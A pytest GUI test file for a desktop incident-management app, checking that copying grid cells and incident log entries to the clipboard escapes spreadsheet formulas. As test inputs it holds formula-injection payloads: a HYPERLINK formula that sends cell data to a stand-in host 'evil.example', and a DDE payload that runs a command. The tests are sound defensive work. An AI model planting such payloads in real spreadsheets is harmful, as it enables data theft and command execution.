"""Copying to the clipboard never pastes a live formula into a spreadsheet: the EEI
grid's selection and a log entry's text go through interop.tabular.safe_cell."""

from __future__ import annotations

from typing import Any

import pytest
from PySide6.QtCore import QItemSelectionModel
from PySide6.QtGui import QStandardItem, QStandardItemModel
from PySide6.QtWidgets import QApplication, QMenu, QTableView

from hcc_desktop.core.services import log
from hcc_desktop.gui.clipboard import cell_text, entry_text, table_text
from hcc_desktop.gui.models import log_rows as lr
from hcc_desktop.gui.panels import incident_log
from hcc_desktop.gui.panels.eei_selection import copy_text

pytestmark = pytest.mark.gui

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1 555 0100", "'+1 555 0100"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2", "-2"),  # a number, not a formula
        (-2, "-2"),
        (0, "0"),
        (None, ""),
        ("Normal", "Normal"),
        ("a\tb\nc", "a b c"),  # no extra cells or rows
        ("\t=1+1", "' =1+1"),
    ],
)
def test_a_cell_is_text_a_spreadsheet_will_not_run(value: object, expected: str) -> None:
    assert cell_text(value) == expected


def test_table_and_entry_text() -> None:
    assert table_text([["Facility", "Status"], ["=cmd|' /C calc'!A0", 3]]) == (
        "Facility\tStatus\n'=cmd|' /C calc'!A0\t3\n"
    )
    assert entry_text("Fuel low\n=1+1\n- ask DEMHS") == "Fuel low\n'=1+1\n'- ask DEMHS"


def test_eei_grid_copy_guards_every_cell(qtbot: Any) -> None:
    model = QStandardItemModel(2, 2)
    model.setHorizontalHeaderLabels(["Facility status", "=Comment"])
    model.setVerticalHeaderLabels(["Waterbury Hospital", "@Evil Clinic"])
    model.setItem(0, 0, QStandardItem("Normal"))
    model.setItem(0, 1, QStandardItem(FORMULA))
    model.setItem(1, 0, QStandardItem("-1"))
    view = QTableView()
    qtbot.addWidget(view)
    view.setModel(model)
    select = QItemSelectionModel.SelectionFlag.Select
    for r in range(2):
        for c in range(2):
            view.selectionModel().select(model.index(r, c), select)
    lines = copy_text(view, model).splitlines()  # type: ignore[arg-type]
    assert lines == [
        "Facility\tFacility status\t'=Comment",
        f"Waterbury Hospital\tNormal\t'{FORMULA}",
        "'@Evil Clinic\t-1\t",
    ]


def test_incident_log_copy_text_is_not_a_formula(
    qtbot: Any, main_window: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    panel = main_window.panels["incidentLogDock"]
    ctx = main_window.ctx
    log.add_entry(
        ctx.store, actor=ctx.actor, incident_id=ctx.incident_id, text=f"{FORMULA}\nsecond line"
    )
    qtbot.waitUntil(lambda: panel.is_loaded() and "HYPERLINK" in panel.model.entry(0).text)
    expected = f"'{FORMULA}\nsecond line"
    QApplication.clipboard().clear()
    text_column = next(c for c in range(panel.model.columnCount()) if c != lr.LINK)
    panel._double_clicked(panel.model.index(0, text_column))  # copies the text
    assert QApplication.clipboard().text() == expected

    class ChooseCopy(QMenu):
        """The context menu as if the operator chose "Copy text"."""

        def exec(self, *_a: Any) -> None:  # type: ignore[override]
            next(a for a in self.actions() if a.text() == "Copy text").trigger()

    monkeypatch.setattr(incident_log, "QMenu", ChooseCopy)
    QApplication.clipboard().clear()
    index = panel.model.index(0, 0)
    panel._context_menu(panel.view.visualRect(index).center())
    assert QApplication.clipboard().text() == expected
